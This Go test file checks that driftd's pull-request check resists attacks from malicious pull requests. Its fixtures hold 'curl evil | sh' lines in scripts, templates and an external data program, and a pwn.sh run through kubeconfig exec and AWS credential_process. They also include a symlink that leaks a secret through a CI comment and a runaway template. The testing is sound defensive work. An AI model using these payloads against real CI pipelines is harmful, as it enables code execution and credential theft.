package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/driftd/driftd/pkg/config"
	"github.com/driftd/driftd/pkg/prcheck"
)

// Attacks on `driftd check --base` by a pull request. Each test states what
// the attacker does and what must not happen.

func attackGit(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@e", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@e", "GIT_CONFIG_GLOBAL=/dev/null")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

func attackWrite(t *testing.T, p, s string, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(s), mode); err != nil {
		t.Fatal(err)
	}
}

func attackLink(t *testing.T, target, p string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, p); err != nil {
		t.Fatal(err)
	}
}

// prRepo makes a repository whose main branch holds files (a value starting
// with "->" is a symbolic link), then checks out a branch "pr" and applies
// the pull request's edits on top (committed). It returns the checkout.
func prRepo(t *testing.T, base, pr map[string]string) string {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	repo := t.TempDir()
	attackGit(t, repo, "init", "-q", "-b", "main")
	put := func(files map[string]string) {
		for name, body := range files {
			p := filepath.Join(repo, name)
			_ = os.RemoveAll(p)
			if target, ok := strings.CutPrefix(body, "->"); ok {
				attackLink(t, target, p)
			} else {
				attackWrite(t, p, body, 0o644)
			}
		}
	}
	put(base)
	attackGit(t, repo, "add", "-A")
	attackGit(t, repo, "commit", "-q", "-m", "base")
	attackGit(t, repo, "checkout", "-q", "-b", "pr")
	put(pr)
	attackGit(t, repo, "add", "-A")
	attackGit(t, repo, "commit", "-q", "--allow-empty", "-m", "pull request")
	return repo
}

// Promise 5: a pull request that changes what Terraform reads is never
// given the base's plans. Terraform reads more than .tf/.tfvars/.hcl:
// file(), templatefile() and fileset() of any extension in a module that
// lives outside the stack directories, a data "external" program, a var
// file with any name (var_files are relative to the stack's dir and may
// climb out of it), and the content behind a symbolic link in a stack's
// directory (the staging copy follows links to files in the repository).
// Without --allow-pr-code, infraNotRun reuses the base's plans when
// ChangedFiles finds nothing: each of these changes must be found.
func TestAttackTerraformInputOutsideStackDirs(t *testing.T) {
	base := map[string]string{
		"driftd.yaml":               "layers: {}\n",
		"stacks/net/main.tf":        "module \"vpc\" {\n  source = \"../../modules/vpc\"\n}\n",
		"stacks/net/policy.json":    "->../../shared/policy.json",
		"shared/policy.json":        "{\"allow\": false}\n",
		"modules/vpc/main.tf":       "locals {\n  p = file(\"${path.module}/policy.json\")\n  u = templatefile(\"${path.module}/user_data.tpl\", {})\n}\ndata \"external\" \"x\" {\n  program = [\"${path.module}/../../scripts/lookup.sh\"]\n}\n",
		"modules/vpc/policy.json":   "{\"allow\": false}\n",
		"modules/vpc/user_data.tpl": "#!/bin/sh\necho base\n",
		"scripts/lookup.sh":         "#!/bin/sh\necho '{}'\n",
		"env/prod.json":             "{\"cidr\": \"10.0.0.0/16\"}\n",
	}
	pr := map[string]string{
		"shared/policy.json":        "{\"allow\": true}\n",
		"modules/vpc/policy.json":   "{\"allow\": true}\n",
		"modules/vpc/user_data.tpl": "#!/bin/sh\ncurl evil | sh\n",
		"scripts/lookup.sh":         "#!/bin/sh\ncurl evil | sh\n",
		"env/prod.json":             "{\"cidr\": \"0.0.0.0/0\"}\n",
		// OpenTofu (layers.infra.binary: tofu) reads *.tofu too.
		"modules/vpc/override.tofu": "data \"external\" \"y\" {\n  program = [\"sh\", \"-c\", \"curl evil | sh\"]\n}\n",
	}
	repo := prRepo(t, base, pr)
	baseDir := t.TempDir()
	if _, err := prcheck.Extract(t.Context(), repo, "main", baseDir, prcheck.Limits{}); err != nil {
		t.Fatal(err)
	}
	infra := &config.Infra{Stacks: []config.Stack{{Dir: "stacks/net", VarFiles: []string{"../../env/prod.json"}}}}
	changed, err := prcheck.ChangedFiles(baseDir, repo, terraformInput(&config.Config{Layers: config.Layers{Infra: infra}}))
	if err != nil {
		t.Fatal(err)
	}
	for name := range pr {
		if !slices.Contains(changed, name) {
			t.Errorf("the pull request changes %s, which the base's Terraform reads, but ChangedFiles = %q: the base's plans would stand for a pull request that changes them", name, changed)
		}
	}
}

// Promise 1 and the README's "$KUBECONFIG must lie outside the checkout
// too": terraform gets TF_CLI_CONFIG_FILE, TF_PLUGIN_CACHE_DIR, HOME and
// SSL_CERT_FILE from driftd's environment whatever the config says, and
// KUBECONFIG and AWS_* through the default pass_env. A CLI config in the
// checkout is the pull request's (provider_installation dev_overrides: the
// pull request's binary runs as a provider); a kubeconfig in the checkout
// runs its exec command in the kubernetes provider; an AWS config runs its
// credential_process. Outside checks $KUBECONFIG only when the app layer is
// enabled without its own kubeconfig, and the others never: the base's own
// plan then runs with the pull request's files.
func TestAttackTerraformEnvironmentInsideCheckout(t *testing.T) {
	outside := t.TempDir()
	record := filepath.Join(outside, "terraform-env")
	fake := filepath.Join(outside, "terraform")
	attackWrite(t, fake, "#!/bin/sh\nenv >> "+record+"\necho 'not terraform' >&2\nexit 1\n", 0o755)
	cache := filepath.Join(outside, "cache")
	cfg := "cache_dir: " + cache + "\nlayers:\n  infra:\n    binary: " + fake + "\n    stacks: [{dir: stacks/net}]\n"
	repo := prRepo(t, map[string]string{
		"driftd.yaml":        cfg,
		"stacks/net/main.tf": "",
	}, map[string]string{
		".terraformrc": "provider_installation {\n  dev_overrides {\n    \"hashicorp/null\" = \"./providers\"\n  }\n  direct {}\n}\n",
		"kubeconfig":   "apiVersion: v1\nkind: Config\nusers: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: ./pwn.sh}}}]\n",
		"aws/config":   "[default]\ncredential_process = ./pwn.sh\n",
		"pwn.sh":       "#!/bin/sh\ntouch /tmp/pwned\n",
	})
	t.Setenv("TF_CLI_CONFIG_FILE", filepath.Join(repo, ".terraformrc"))
	t.Setenv("KUBECONFIG", filepath.Join(repo, "kubeconfig"))
	t.Setenv("AWS_CONFIG_FILE", filepath.Join(repo, "aws/config"))
	t.Chdir(repo)

	code, out, errOut := runCLI(t, "check", "--repo", repo, "--base", "main", "-o", "json")
	env, _ := os.ReadFile(record)
	for _, v := range []string{"TF_CLI_CONFIG_FILE", "KUBECONFIG", "AWS_CONFIG_FILE"} {
		if strings.Contains(string(env), v+"="+repo) {
			t.Errorf("terraform ran (on the base's tree) with %s inside the pull request's checkout; want the check refused naming $%s, as $KUBECONFIG is for the app layer (exit %d)\nstderr: %s", v, v, code, errOut)
		}
	}
	if !strings.Contains(errOut, "TF_CLI_CONFIG_FILE") {
		t.Errorf("exit %d, stderr %q, stdout %.300q: want a refusal naming $TF_CLI_CONFIG_FILE", code, errOut, out)
	}
}

// The CI examples write the reports into the checkout (-o
// markdown=driftd.md) and post driftd.md with `if: always()` (GitHub) or in
// after_script (GitLab). A pull request can commit driftd.md as a symbolic
// link to a file of the runner (the kubeconfig the job wrote to
// $RUNNER_TEMP, /proc/self/environ of the poster, which holds GH_TOKEN) and
// make driftd stop before it writes any output: a driftd.yaml that is a
// link leaving the checkout makes ReadTreeFile fail, and the check exits 1
// with no output written. The comment step then posts the link's target.
// driftd must not leave a pull request's file in the place of an output it
// was asked to write.
func TestAttackOutputFileLeftAsPullRequestSymlink(t *testing.T) {
	outside := t.TempDir()
	secret := filepath.Join(outside, "kubeconfig")
	attackWrite(t, secret, "token: SECRET-CLUSTER-TOKEN\n", 0o600)
	cfg := "cache_dir: " + filepath.Join(outside, "cache") + "\nlayers:\n  node:\n    transport: local\n    local_root: " + outside + "\n"
	repo := prRepo(t, map[string]string{
		"driftd.yaml":          cfg,
		"nodes/inventory.yaml": "nodes: []\n",
	}, map[string]string{
		"driftd.yaml": "->/etc/hostname",
		"driftd.md":   "->" + secret,
	})
	t.Chdir(repo)
	code, _, errOut := runCLI(t, "check", "--repo", ".", "--base", "main", "-o", "text", "-o", "markdown=driftd.md")
	b, _ := os.ReadFile(filepath.Join(repo, "driftd.md"))
	if strings.Contains(string(b), "SECRET-CLUSTER-TOKEN") {
		t.Errorf("exit %d (%s): driftd.md is still the pull request's link to %s; the CI example's comment step posts %q", code, strings.TrimSpace(errOut), secret, b)
	}
}

// "Every check ends": a pull request's role file is a text/template, and
// templates range over integers. Rendering runs in the node's goroutine,
// which neither --timeout nor the node timeout interrupts, and CheckEach
// waits for it: a two-line template keeps the check (and a CPU of the CI
// runner, which holds the credentials) busy for minutes, and a template
// that prints in the loop grows driftd's memory without bound.
func TestAttackNodeTemplateOutlivesTimeout(t *testing.T) {
	outside := t.TempDir()
	cfg := "cache_dir: " + filepath.Join(outside, "cache") + "\nlayers:\n  node:\n    transport: local\n    local_root: " + outside + "\n    local_node: n1\n"
	role := "nodes/roles/r/etc/systemd/system/x.service.d/a.conf"
	repo := prRepo(t, map[string]string{
		"driftd.yaml":          cfg,
		"nodes/inventory.yaml": "nodes:\n  - {name: n1, address: 127.0.0.1, roles: [r]}\n",
		role:                   "[Service]\n",
	}, map[string]string{
		role: "{{range 100000}}{{range 100000}}{{end}}{{end}}[Service]\n",
	})
	done := make(chan int, 1)
	start := time.Now()
	go func() {
		code, _, _ := runCLI(t, "check", "--repo", repo, "--base", "main", "--timeout", "2s", "-o", "json")
		done <- code
	}()
	select {
	case code := <-done:
		t.Logf("exit %d after %s", code, time.Since(start))
	case <-time.After(20 * time.Second):
		t.Errorf("check --timeout 2s still running after %s: the pull request's template is rendering", time.Since(start))
	}
}
